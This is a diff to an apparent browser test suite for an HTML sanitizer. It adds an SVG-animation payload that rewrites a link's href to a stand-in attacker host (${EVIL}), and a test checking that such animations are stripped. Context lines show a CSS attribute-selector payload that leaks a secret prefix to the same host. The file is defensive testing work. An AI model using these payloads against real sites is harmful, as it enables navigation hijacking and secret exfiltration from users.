@@ -40,6 +40,11 @@ const attacks: Attack[] = [
     isClicked: true,
   },
   {
+    name: "a link in a drawing that moves away from its address",
+    html: `<svg height="40" width="40"><a id="it" href="#x"><set attributeName="target" to="_self"/><set attributeName="href" to="${EVIL}/"/><rect height="40" width="40"/></a></svg>`,
+    isClicked: true,
+  },
+  {
     name: "styles that read what stands outside",
     html: `<style>#outside[value^="lectern_s"]{background:url(${EVIL}/?s)}</style>`,
   },
@@ -182,6 +187,13 @@ test("a link for the top opens beside the page, which it does not know", async (
   expect(await tab.evaluate("opener")).toBeNull();
   await tab.close();
   await expectUnharmed();
+});
+
+test("where a link in a drawing leads is not animated", async () => {
+  const drawing = (names: string[]): string =>
+    `<svg><a href="https://ok.example/">${names.map((name) => `<set attributeName="${name}" to="_self"/>`).join("")}</a></svg>`;
+  await showLesson(opened, { additionalText: drawing(["href", "xlink:href", " HREF ", "target", "opacity"]) });
+  expect(await lesson.locator("set").count()).toBe(1);
 });
 
 test("a link to data opens nothing", async () => {
